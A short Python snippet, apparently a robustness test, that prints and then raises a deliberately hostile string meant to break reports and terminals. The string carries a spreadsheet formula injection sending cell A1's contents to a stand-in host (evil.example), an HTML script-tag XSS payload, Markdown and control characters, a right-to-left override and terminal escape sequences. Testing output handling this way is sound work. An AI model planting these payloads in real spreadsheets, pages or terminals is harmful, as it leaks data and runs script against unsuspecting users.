# Hostile: prints, then raises with, a CSV formula, XML-illegal characters, Markdown pipes, HTML and line breaks, and terminal escapes, hoping to break a report or the terminal; RTE
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    " | --- | </td><script>alert(1)</script> `code` [link](http://evil.example) @staff $x$"
    "\n| a | b |\n\r\x00\x01\x08\x0b\x0c\x1b\x7f\x85 \ufffe \u202e "
    "\x1b]0;title\x07\x1b[2J\x1b[H\x9b31m"
)
print(HOSTILE)
raise ValueError(HOSTILE + " \ud800")  # a lone surrogate too: it cannot be printed, only raised
